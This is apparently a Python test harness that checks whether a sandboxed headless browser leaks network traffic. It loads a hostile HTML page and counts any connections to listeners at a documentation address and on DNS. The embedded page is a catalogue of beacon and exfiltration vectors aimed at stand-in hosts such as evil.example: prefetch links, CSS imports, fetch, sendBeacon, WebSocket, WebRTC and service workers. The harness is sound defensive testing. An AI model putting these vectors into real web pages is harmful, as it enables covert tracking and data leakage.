"""Run by test_network.py in a network of its own: shows an evil page, counts what gets out.

The page is `EVIL`, or the file named behind the mode.  Prints a JSON object: how many connections,
datagrams and DNS queries the listeners saw, and how many packets the network carried in all.
"""

import contextlib
import fcntl
import json
import socket
import struct
import sys
import tempfile
import threading
import time
from pathlib import Path

_FAR = "192.0.2.7"  # an address reserved for documentation
_NEAR = "http://localhost:8003/live"
_LIVE = (
    b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 7\r\n"
    b"Connection: close\r\n\r\n<p>live"
)
_MOVED = b"HTTP/1.1 302 Found\r\nLocation: /live\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
EVIL = """<!doctype html><link rel=icon href="http://192.0.2.7:8001/i.ico">
<link rel=preconnect href="http://192.0.2.7:8001">
<link rel=preconnect href="http://p.evil.example">
<link rel=preconnect href="http://127.0.0.1:8003">
<link rel=dns-prefetch href="//d.evil.example">
<link rel=prefetch href="http://192.0.2.7:8001/p">
<link rel=prerender href="http://192.0.2.7:8001/r">
<link rel=modulepreload href="http://192.0.2.7:8001/m.js">
<link rel=preload as=image href="http://192.0.2.7:8001/l.png">
<link rel=manifest href="http://192.0.2.7:8001/m">
<link rel=stylesheet href="http://192.0.2.7:8001/s.css">
<style>@import "http://192.0.2.7:8001/t.css";
body { background: url(http://192.0.2.7:8001/b.png) }</style>

<script type=speculationrules>{"prerender": [{"source": "list", "urls": ["http://192.0.2.7:8001/s"]}]}</script>
<img src="http://192.0.2.7:8001/a.png"
 srcset="http://s.evil.example/a.png 2x">
<iframe src="http://192.0.2.7:8001/f">
</iframe><object data="http://192.0.2.7:8001/o"></object><embed src="http://192.0.2.7:8001/e">
<video src="http://192.0.2.7:8001/v" poster="http://192.0.2.7:8001/w" autoplay></video>
<a id=a href="http://192.0.2.7:8001/d" download ping="http://192.0.2.7:8001/ping">d</a>
<form id=f action="http://192.0.2.7:8001/form"></form><p>story</p><script>
const to = 'http://192.0.2.7:8001/', safe = (run) => { try { run() } catch (e) { console.log(e) } };
safe(() => fetch(to).catch(() => 0)); safe(() => fetch('http://x.evil.example/').catch(() => 0));
safe(() => fetch(to, {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'}).catch(() => 0));
safe(() => navigator.sendBeacon(to, 'x')); safe(() => new WebSocket('ws://192.0.2.7:8001/'));
safe(() => new EventSource(to)); safe(() => { new Image().src = to });
safe(() => { const r = new XMLHttpRequest(); r.open('GET', to); r.send() });
safe(() => new Worker(to)); safe(() => new WebTransport('https://192.0.2.7:8001/'));
safe(() => open(to)); safe(() => a.click()); safe(() => f.submit()); safe(() => { location = to });
safe(() => import(to)); safe(() => navigator.serviceWorker.register(to));
safe(async () => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:192.0.2.7:8002'},
  {urls: 'turn:192.0.2.7:8002?transport=udp', username: 'x', credential: 'y'}]});
  c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()) });
</script>"""


def name_servers() -> list[str]:
    lines = Path("/etc/resolv.conf").read_text().splitlines()
    result = [line.split()[1] for line in lines if line.startswith("nameserver")]
    return [address for address in result if ":" not in address]


def bring_up() -> None:
    """Switch the loopback device on, with the addresses of a far host and the name servers."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        for index, address in enumerate(["", _FAR, *name_servers()]):
            name = (f"lo:{index}" if index else "lo").encode().ljust(16, b"\0")
            if address and not address.startswith("127."):
                where = struct.pack("HH4s8x", socket.AF_INET, 0, socket.inet_aton(address))
                fcntl.ioctl(control, 0x8916, name + where)  # SIOCSIFADDR
            fcntl.ioctl(control, 0x8914, struct.pack("16sH14x", name[:2].ljust(16, b"\0"), 1))


def packets() -> int:
    """Return how many packets all devices of this network have sent."""
    lines = Path("/proc/net/dev").read_text().splitlines()[2:]
    return sum(int(line.partition(":")[2].split()[9]) for line in lines)


def listen(seen: dict[str, int]) -> None:
    def take(name: str, server: socket.socket) -> None:
        while True:
            if server.type == socket.SOCK_STREAM:
                with server.accept()[0] as caller:
                    caller.settimeout(1.0)
                    with contextlib.suppress(OSError):
                        asked = caller.recv(2000)
                        if asked.startswith((b"GET /live", b"GET /moved")):
                            caller.sendall(_LIVE if b"/live" in asked[:9] else _MOVED)
                            continue
            else:
                server.recv(2000)
            seen[name] += 1

    positions = [
        ("tcp", socket.SOCK_STREAM, (_FAR, 8001)),
        ("near", socket.SOCK_STREAM, ("127.0.0.1", 8003)),
    ]
    positions += [("udp", socket.SOCK_DGRAM, (_FAR, port)) for port in (8001, 8002)]
    positions += [("dns", socket.SOCK_DGRAM, ("0.0.0.0", 53))]
    for name, kind, address in positions:
        server = socket.socket(socket.AF_INET, kind)
        server.bind(address)
        if kind == socket.SOCK_STREAM:
            server.listen()
        threading.Thread(target=take, args=(name, server), daemon=True).start()


def replayed(browser):
    """Freeze the evil page and verify it in a new process; return the replayed page."""
    from annotate.archives.frozen.capturing import write_verified
    from annotate.archives.frozen.frozen_file import FrozenFile
    from annotate.datasets.opening import open_document
    from engine.web.freezing import freeze

    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "evil.wacz"
        frozen = freeze(browser, open_document(EVIL.encode()), timeout_s=5)
        certificate = write_verified(frozen, file, "an engine")
        assert certificate.verdict != "failed", certificate.summary
        page = browser.capture(FrozenFile(file).document())
        time.sleep(1.0)
    return page


def main() -> None:
    bring_up()
    seen = {"tcp": 0, "near": 0, "udp": 0, "dns": 0}
    listen(seen)
    from annotate.datasets.opening import open_document
    from engine.web import profile
    from engine.web.headless import Browser

    mode = sys.argv[1]
    is_loose = mode == "loose"  # shows that the listeners see what is sent
    is_near = mode in ("loose", "near")
    profile.prepare(online=mode != "offline", near=is_near, no_sandbox=True, headless=True)
    if is_loose:
        profile.seal = lambda _: False
    with Browser() as browser:
        if is_loose:
            browser.view.page().profile().setUrlRequestInterceptor(None)
        if mode in ("after live", "near"):
            address = f"http://{_FAR}:8001/moved" if mode == "after live" else _NEAR
            page = browser.capture(open_document(address))
            assert page.nodes.text[-1] == "live", page.notes
            assert page.original.html == "<p>live"
        evil = Path(sys.argv[2]) if len(sys.argv) > 2 else EVIL.encode()
        page = browser.capture(open_document(evil), timeout_s=5)
        time.sleep(1.0)
        refused = browser.view.gate.refused
        if mode == "replay":
            page = replayed(browser)
    answer = {**seen, "packets": packets(), "refused": refused, "nodes": len(page.nodes)}
    print(json.dumps({**answer, "is read": "story" in page.nodes.text}))


if __name__ == "__main__":
    main()
